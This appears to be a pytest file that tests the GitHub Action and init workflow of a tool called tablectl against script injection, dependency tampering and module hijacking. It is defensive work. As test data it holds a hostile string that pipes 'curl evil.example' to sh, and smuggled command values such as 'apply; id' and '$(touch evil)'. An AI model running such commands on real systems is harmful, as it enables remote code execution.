"""``action.yml`` and the workflow of ``tablectl init``: as files, linted, and run by hand."""

from __future__ import annotations

import ast
import os
import re
import shutil
import subprocess
import sys
import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

import tablectl.ci.steps
from tablectl.ci.steps import STEPS
from tablectl.commands.lock import ci_files
from tablectl.model.install_source import CiSystem
from tests.ci.conftest import FakeGitHub, Runner, base_commit, git, merge
from tests.ci.hand import ACTION, OURS, Hand, bash_reads, checkout
from tests.commands.conftest import Cli, FakeSpark, Repository
from tests.commands.log_lake import Logged, set_property
from tests.docs.pages import PAGES, blocks
from tests.support.test_git import bare

ROOT = Path(__file__).parents[2]
WORKFLOW_TEXT = ci_files(CiSystem.GITHUB)[".github/workflows/tablectl.yml"]
WORKFLOW: dict[str, Any] = yaml.safe_load(WORKFLOW_TEXT)
FILES: list[tuple[str, list[dict[str, Any]]]] = [
    ("action.yml", ACTION["runs"]["steps"]),
    *((f"job {name}", job["steps"]) for name, job in WORKFLOW["jobs"].items()),
]
EVIL = 'x"; curl evil.example | sh #`$(id)`'
COMMIT, HEAD = "c" * 40, "a" * 40


def texts(value: Any) -> Iterator[str]:
    match value:
        case dict():
            for each in value.values():
                yield from texts(each)
        case list():
            for each in value:
                yield from texts(each)
        case _:
            yield str(value)


def outputs_of(step: str) -> set[str]:
    """The outputs that a step of ours writes."""
    tree = ast.parse(Path(str(tablectl.ci.steps.__file__)).read_text())
    (function,) = [node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == f"{step}_step"]
    calls = [
        each for each in ast.walk(function) if isinstance(each, ast.Call) and ast.unparse(each.func) == "job.output"
    ]
    return {str(each.arg).replace("_", "-") for call in calls for each in call.keywords}


def test_every_input_is_declared_and_used() -> None:
    used = set(re.findall(r"\binputs\.([\w-]+)", " ".join(texts(ACTION))))
    assert used == set(ACTION["inputs"])
    for name, given in ACTION["inputs"].items():
        assert given["description"].strip()
        assert ("default" in given) != given.get("required", False), name


@pytest.mark.parametrize(("file", "steps"), FILES)
def test_no_shell_reads_an_expression(file: str, steps: list[dict[str, Any]]) -> None:
    """Branches, titles and inputs are what anybody writes: they reach scripts as variables alone."""
    for step in steps:
        assert ("uses" in step) != ("run" in step)
        if "run" in step:
            assert "${{" not in step["run"]
            assert bash_reads(step["run"])
            assert file != "action.yml" or step["shell"] == "bash"
        else:
            assert re.fullmatch(r"[\w-]+/[\w/-]+@[0-9a-f]{40}", step["uses"])
    for text in texts(steps):
        assert "github.event." not in text
        assert "github.head_ref" not in text


@pytest.mark.parametrize(("file", "steps"), FILES)
def test_steps_are_ours_and_what_is_read_of_them_is_written(file: str, steps: list[dict[str, Any]]) -> None:
    known: dict[str, set[str]] = {}
    for step in steps:
        for name, output in re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", " ".join(texts(step))):
            assert output in known[name], f"{file}: {name}.{output}"
        ours = OURS.match(step.get("run", ""))
        if ours:
            known[step.get("id", "")] = outputs_of(ours[1])
            assert ours[1] in STEPS
            assert ("INPUT_TOKEN" in step.get("env", {})) == (ours[1] in {"base", "find", "comment"})
        elif "id" in step:
            known[step["id"]] = (
                {"artifact-url"} if "upload-artifact" in step.get("uses", "") else {"python", "python-path"}
            )
    for output in ACTION["outputs"].values():
        for name, key in re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", output["value"]):
            assert key in outputs_of(name)


def test_jobs_have_the_rights_that_they_need_and_never_apply_at_once() -> None:
    assert WORKFLOW["permissions"] == {}
    jobs = WORKFLOW["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "plan": {"actions": "read", "contents": "read", "pull-requests": "write", "security-events": "write"},
        "apply": {"actions": "read", "contents": "read", "pull-requests": "write"},
        "check": {"contents": "read"},
        "drift": {"contents": "read"},
    }
    assert jobs["apply"]["concurrency"] == {"group": "tablectl-apply", "cancel-in-progress": False}
    assert jobs["plan"]["concurrency"]["cancel-in-progress"] is True


def test_the_scaffold_applies_on_the_default_branch_and_in_an_environment() -> None:
    jobs = WORKFLOW["jobs"]
    by_hand = "github.event_name == 'workflow_dispatch' && inputs.plan-run && github.ref == BRANCH"
    by_hand = by_hand.replace("BRANCH", "format('refs/heads/{0}', github.event.repository.default_branch)")
    assert jobs["apply"]["if"] == f"github.event_name == 'push' || ({by_hand})"
    assert jobs["apply"]["environment"] == "production"
    for _, page in workflows_of_pages():
        for job in page["jobs"].values():
            if any("mode': 'apply'" in str(step) for step in job["steps"]):
                assert (job["if"], job["environment"]) == (jobs["apply"]["if"], "production")


def jobs_in(text: str) -> dict[str, str]:
    """The lines of each job of a workflow."""
    return {
        match[1]: match[0]
        for match in re.finditer(r"(?ms)^  ([a-z-]+):\n.*?(?=^  [a-z-]+:\n|\Z)", text.split("\njobs:\n")[1])
    }


def test_every_job_that_reads_or_writes_tables_says_where_its_credentials_go() -> None:
    """As comments in the workflow of ``init``, which fits every store; as ``env`` or a login where a page shows one."""
    for text in (WORKFLOW_TEXT, *(each for each, _ in workflows_of_pages())):
        for name, lines in jobs_in(text).items():
            if "OWNER/tablectl@" in lines or "tablectl.ci" in lines:
                assert re.search(r"(?m)^    (?:# )?env:|id-token: write", lines), f"{name} of {text}"
    gitlab = ci_files(CiSystem.GITLAB)[".gitlab-ci.yml"]
    for name, lines in jobs_in("\njobs:\n" + re.sub(r"(?m)^(?=.)", "  ", gitlab)).items():
        assert "script:" not in lines or re.search(r"(?m)^ +(?:# )?environment:", lines), name


@pytest.mark.parametrize("merged", [True, False])
@pytest.mark.parametrize("job", ["plan", "check"])
def test_the_scaffold_installs_for_a_plan_what_the_default_branch_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, job: str, merged: bool
) -> None:
    """The attacker changes ``requirements/`` in his branch, also where the job keeps those of the default branch: what
    is installed runs with the job's credentials.
    """
    server, temp = tmp_path / "server", tmp_path / "temp"
    temp.mkdir()
    for folder, text in (
        ("requirements", "reviewed"),
        ("tablectl-base/requirements", "evil"),
        ("requirements", "evil"),
    ):
        (server / folder).mkdir(parents=True, exist_ok=True)
        monkeypatch.chdir(server)
        for name in ("tablectl-plan.lock", "tablectl.txt"):
            (server / folder / name).write_text(f"{text} {name}\n")
        if text == "reviewed":
            if not merged:
                shutil.rmtree(server / folder)
            base_commit()
            git("branch", "-M", "main")
            git("checkout", "--quiet", "-b", "mine")
    evil = base_commit()
    git("tag", "main")
    pip = tmp_path / "bin" / "pip"
    pip.parent.mkdir()
    pip.write_text(f'#!/bin/sh\nfor last; do true; done\ncat "$last" >> "{tmp_path}/installed"\n')
    pip.chmod(0o755)
    env = {"PATH": f"{pip.parent}:{os.environ['PATH']}", "RUNNER_TEMP": str(temp)}
    for step in WORKFLOW["jobs"][job]["steps"]:
        if "actions/checkout@" in step.get("uses", ""):
            checkout(server, tmp_path / "workspace", step["with"], evil)
        elif "run" in step:
            subprocess.run(["bash", "-e", "-c", step["run"]], cwd=tmp_path / "workspace", env=env, check=True)
        if step.get("name") == "install tablectl":
            break
    said = "reviewed" if merged else "evil"  # before the first merge, the branch's own
    assert (tmp_path / "installed").read_text() == f"{said} tablectl-plan.lock\n{said} tablectl.txt\n"


def test_no_job_installs_a_wheel_that_pip_kept_of_a_commit(tmp_path: Path) -> None:
    """pip keeps the wheel that it built of a commit, without a hash of its own, and a runner may keep pip's cache."""
    lines = [
        line
        for job in WORKFLOW["jobs"].values()
        for step in job["steps"]
        for line in step.get("run", "").splitlines()
        if "pip install" in line and "tablectl.txt" in line
    ]
    assert len(lines) == 4
    assert all("--no-cache-dir" in line for line in lines)
    apply = WORKFLOW["jobs"]["apply"]["steps"]
    assert all("cache" not in step.get("with", {}) for step in apply), "another workflow could fill it"


def workflows_of_pages() -> Iterator[tuple[str, dict[str, Any]]]:
    """Workflows that pages show, as text and as what it says."""
    for page in PAGES:
        for block in blocks(page):
            value = yaml.safe_load(block.text) if block.language == "yaml" else None
            if isinstance(value, dict) and "jobs" in value:
                yield block.text, value


def test_what_pages_give_to_the_action_are_inputs_of_it() -> None:
    used = [
        step["with"]
        for _, workflow in workflows_of_pages()
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if step.get("uses", "").startswith("OWNER/tablectl@")
    ]
    assert {each["mode"] for each in used} == {"plan", "check", "apply", "drift"}
    assert {key for each in used for key in each} <= set(ACTION["inputs"])
    page = (ROOT / "docs" / "ci.md").read_text()
    inputs, outputs = (
        set(
            re.findall(
                r"`([a-z-]+)`", " ".join(re.findall(r"(?m)^\| ([^|]+) \|", page.split(head)[1].split("\n\n")[0]))
            )
        )
        for head in ("| input |", "| output |")
    )
    assert inputs == set(ACTION["inputs"])
    assert outputs == set(ACTION["outputs"])


def actionlint() -> str | None:
    return shutil.which("actionlint")


def test_the_lines_for_other_systems_take_the_file_of_the_branch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Run where an attacker pushed a tag with the name of the branch, and a folder that looks like a repository."""
    (script,) = [each.text for each in blocks(ROOT / "docs" / "ci-security.md") if "TABLECTL_BASE_CONFIG=" in each.text]
    monkeypatch.chdir(tmp_path)
    Path("tablectl.yaml").write_text("variables: {TEAM: pay}\n")
    base_commit()
    git("update-ref", "refs/remotes/origin/main", "HEAD")
    bare(tmp_path, tmp_path / "pwned")
    Path("tablectl.yaml").write_text("variables: {TEAM: evil}\n")
    base_commit()
    git("tag", "origin/main")
    program = tmp_path / "bin" / "tablectl"
    program.parent.mkdir()
    program.write_text('#!/bin/sh\ncat "$TABLECTL_BASE_CONFIG" > read\n')
    program.chmod(0o755)
    env = {"PATH": f"{program.parent}:{os.environ['PATH']}"}
    subprocess.run(["sh", "-e", "-c", script], env=env, check=True)
    assert Path("read").read_text() == "variables: {TEAM: pay}\n"
    assert not Path("pwned").exists()


@pytest.mark.skipif(
    actionlint() is None,
    reason="actionlint is not installed (go install github.com/rhysd/actionlint/cmd/actionlint@latest): "
    "workflows are checked by these tests alone",
)
def test_actionlint_finds_nothing(tmp_path: Path) -> None:
    """The workflow of ``init``, those of the pages, and one that uses the action with every input that it has."""
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (tmp_path / ".git").mkdir()
    (workflows / "tablectl.yml").write_text(WORKFLOW_TEXT)
    for number, (text, _) in enumerate(workflows_of_pages()):
        (workflows / f"page-{number}.yml").write_text(text)
    action = tmp_path / ".github" / "actions" / "tablectl"
    action.mkdir(parents=True)
    shutil.copy(ROOT / "action.yml", action)
    job = {
        "runs-on": "ubuntu-latest",
        "steps": [
            {"id": "t", "uses": "./.github/actions/tablectl", "with": dict.fromkeys(ACTION["inputs"], "x")},
            *({"run": "echo ${{ steps.t.outputs." + name + " }}"} for name in ACTION["outputs"]),
        ],
    }
    (workflows / "uses.yml").write_text(yaml.safe_dump({"on": "push", "jobs": {"one": job}}))
    ran = subprocess.run([str(actionlint()), "-shellcheck="], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (ran.returncode, ran.stdout) == (0, "")


@pytest.mark.skipif(shutil.which("zizmor") is None, reason="zizmor is not installed (pip install zizmor)")
def test_zizmor_finds_nothing(tmp_path: Path) -> None:
    """The workflow of ``init`` and the action. Pages name actions by tags, for their readers, so they are left out."""
    workflow = tmp_path / ".github" / "workflows" / "tablectl.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(WORKFLOW_TEXT)
    command = ["zizmor", "--offline", str(workflow), str(ROOT / "action.yml")]
    ran = subprocess.run(command, capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stdout


@pytest.mark.parametrize(
    ("mode", "extras", "locks", "more"),
    [
        ("plan", "", "base", ""),
        ("plan", "spark,aws", "base spark aws", ""),
        ("drift", "aws", "base aws", ""),
        ("apply", "", "base spark", ""),
        ("apply", "aws", "base spark aws", ""),
        ("apply", "databricks, aws", "base aws", "[databricks]"),
    ],
)
def test_what_is_installed_is_locked_by_hashes(tmp_path: Path, mode: str, extras: str, locks: str, more: str) -> None:
    ran = install(tmp_path, mode, extras)
    assert ran.returncode == 0, ran.stderr
    pip = "-m pip --quiet --disable-pip-version-check --no-cache-dir install"
    files = " ".join(f"-r /the action/locks/{name}.lock" for name in locks.split())
    assert (tmp_path / "asked").read_text().splitlines()[1:] == [
        f"{pip} --require-hashes {files}",
        f"{pip} --no-build-isolation --no-deps /the action/packages/tablectl-guard /the action",
        *([f"{pip} --no-build-isolation /the action{more}"] if more else []),
    ]
    assert (tmp_path / "output").read_text() == f"python={tmp_path}/tablectl-venv/bin/python\n"


def test_extras_that_no_lock_has_are_refused(tmp_path: Path) -> None:
    ran = install(tmp_path, "plan", "dev] evil[")
    assert (ran.returncode, ran.stdout) == (64, "::error title=tablectl::extras are spark, aws and databricks\n")


def test_locks_of_the_action_are_parts_of_the_one_that_is_tested() -> None:
    """Each names every package that its extra needs, at the version and with the hashes of ``requirements.lock``.
    tablectl-guard is in this repository.
    """
    tested = blocks_of(ROOT / "requirements.lock")
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    extras = project["project"]["optional-dependencies"]
    needed = {"base": [*project["project"]["dependencies"], *project["build-system"]["requires"]]}
    needed |= {name: [*needed["base"], *extras[name]] for name in ("spark", "aws")}
    for name, roots in needed.items():
        locked = blocks_of(ROOT / "locks" / f"{name}.lock")
        assert locked <= tested, name
        names = {re.split(r"[^\w.-]", each)[0] for each in locked}
        assert {re.split(r"[^\w.-]", each)[0].lower() for each in roots} <= names | {"tablectl-guard"}, name
        assert all("--hash=sha256:" in each for each in locked)


def blocks_of(lock: Path) -> set[str]:
    return {each.strip() for each in re.split(r"\n(?=\S)", lock.read_text().strip())}


@pytest.mark.parametrize("mode", ["", "destroy", "apply; id", "$(touch evil)"])
def test_a_mode_that_is_none_ends_at_once(tmp_path: Path, mode: str) -> None:
    ran = install(tmp_path, mode, "")
    assert ran.returncode == 64
    assert ran.stdout == "::error title=tablectl::mode is plan, check, apply or drift\n"
    assert not (tmp_path / "asked").exists()
    assert not (tmp_path / "evil").exists()


def test_no_module_of_the_checkout_is_installed_with(tmp_path: Path) -> None:
    """``python -m pip`` would run a ``pip.py`` of the branch, with the job's credentials."""
    for name in ("pip", "venv", "ensurepip"):
        (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'pwned')!r}, 'w')")
    real = f'"{sys.executable}" -m "$2" --help > /dev/null 2>&1'
    assert install(tmp_path, "plan", "", and_then=real).returncode == 0
    assert not (tmp_path / "pwned").exists()
    subprocess.run([sys.executable, "-m", "pip", "--help"], cwd=tmp_path, check=False, capture_output=True)
    assert (tmp_path / "pwned").exists(), "the attack works without the setting"


def install(folder: Path, mode: str, extras: str, *, and_then: str = "") -> subprocess.CompletedProcess[str]:
    """The script of the action, with a Python that only notes what it was asked for."""
    python = folder / "python"
    python.write_text(
        f"""#!/bin/sh
echo "$@" >> "{folder}/asked"
if [ "$2" = venv ]; then mkdir -p "$3/bin" && cp "$0" "$3/bin/python"; fi
{and_then}
exit 0
"""
    )
    python.chmod(0o755)
    (step,) = [step for step in ACTION["runs"]["steps"] if step.get("id") == "install"]
    environ = {key: value for key, value in step["env"].items() if "${{" not in value} | {
        "PATH": os.environ["PATH"],
        "MODE": mode,
        "EXTRAS": extras,
        "PYTHON": str(python),
        "RUNNER_TEMP": str(folder),
        "GITHUB_ACTION_PATH": "/the action",
        "GITHUB_OUTPUT": str(folder / "output"),
    }
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=folder,
        env=environ,
        capture_output=True,
        text=True,
        check=False,
    )


Context = Mapping[str, str]


def of_action(mode: str, **inputs: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
    given = {name: str(declared.get("default", "")) for name, declared in ACTION["inputs"].items()}
    given |= {"mode": mode, "token": "ghs_a-token"} | {key.replace("_", "-"): value for key, value in inputs.items()}
    return ACTION["runs"]["steps"], {f"inputs.{key}": value for key, value in given.items()}


def of_workflow(mode: str, **inputs: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
    known = {"github.token": "ghs_a-token", "inputs.plan-run": inputs.get("plan_run", "")}
    return WORKFLOW["jobs"][mode]["steps"], known


def of_page(mode: str, **inputs: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
    """The workflow of docs/ci.md."""
    (page,) = [each for _, each in workflows_of_pages() if set(each["jobs"]) == {"plan", "check", "apply", "drift"}]
    return page["jobs"][mode]["steps"], of_workflow(mode, **inputs)[1]


@pytest.mark.parametrize("of", [of_action, of_workflow, of_page])
def test_the_life_of_a_change(
    repo: Repository, cli: Cli, fake_spark: FakeSpark, runner: Runner, github: FakeGitHub, tmp_path: Path, of: Any
) -> None:
    """Pull request → comment and artifact → merge → apply → schedule, step by step as the files have them."""
    orders = repo.table("orders", properties={"owner.team": "web"})
    repo.policies({"orders": "{properties: {owner.team: pay}}"})
    number = iter(range(10, 20))

    def job(mode: str, **inputs: str) -> tuple[int, list[str]]:
        steps, context = of(mode, **inputs)
        hand = Hand(runner, github, tmp_path / "store", HEAD, next(number), context, event)
        return hand.play(steps), hand.done

    head, event = {"ref": EVIL, "sha": HEAD}, "pull_request"
    base = {"sha": base_commit()}
    runner.event(pull_request={"number": 5, "title": EVIL, "body": EVIL, "head": head, "base": base})
    code, done = job("plan")
    assert code == 0
    assert {"github/codeql-action/upload-sarif", "Annotate the policies"} & set(done)
    assert github.comments[5][0]["body"].startswith("**🟡 Plan: ")
    assert [each["name"] for each in github.artifacts] == ["tablectl-plan-pr-5"]
    assert job("plan")[0] == 0, "the next push"
    assert len(github.comments[5]) == 1
    assert job("check")[0] == 0
    assert "**✅ Lint: Nothing found" in runner.summary, "the page of the run"

    runner.event(ref="refs/heads/main")
    code, _ = job("apply")
    assert code == 3, "not merged by a pull request"
    assert fake_spark.engines == []
    merge(runner, github, HEAD)
    code, _ = job("apply")
    assert code == 0
    assert Logged(orders).properties == {"owner.team": "pay"}
    assert [each["body"].split(":")[0] for each in github.comments[5]] == ["**🟡 Plan", "**✅ Apply"]
    assert job("drift")[0] == 0
    for title in ("Plan", "Apply", "Drift"):
        assert f" {title}: " in runner.summary, "the page of the run"

    set_property(orders, "owner.team", "someone else")
    assert job("drift")[0] == 2
    assert job("apply")[0] == 3, "stale"
    runner.event(inputs={})
    event = "workflow_dispatch"
    assert job("plan")[0] == 0
    (by_hand,) = [each for each in github.artifacts if each["name"] == "tablectl-plan"]
    assert job("apply", plan_run=str(by_hand["workflow_run"]["id"]))[0] == 0
    assert Logged(orders).properties == {"owner.team": "pay"}


def test_where_no_comment_and_no_annotation_is_wanted(
    repo: Repository, cli: Cli, runner: Runner, github: FakeGitHub, tmp_path: Path
) -> None:
    repo.table("orders")
    repo.policies({"orders": "{isolation: Serializable}"})
    runner.event(pull_request={"number": 5, "base": {"sha": base_commit()}})
    steps, context = of_action("plan", comment="false", sarif="false", name="lake-prod")
    hand = Hand(runner, github, tmp_path / "store", HEAD, 10, context)
    assert hand.play(steps) == 0
    assert hand.done == [
        "Python",
        "Install tablectl",
        "Read the configuration of the base branch",
        "Plan",
        "Keep the plan and the reports",
    ]
    assert github.asked == []
    assert github.artifacts[0]["name"] == "lake-prod-plan-pr-5"
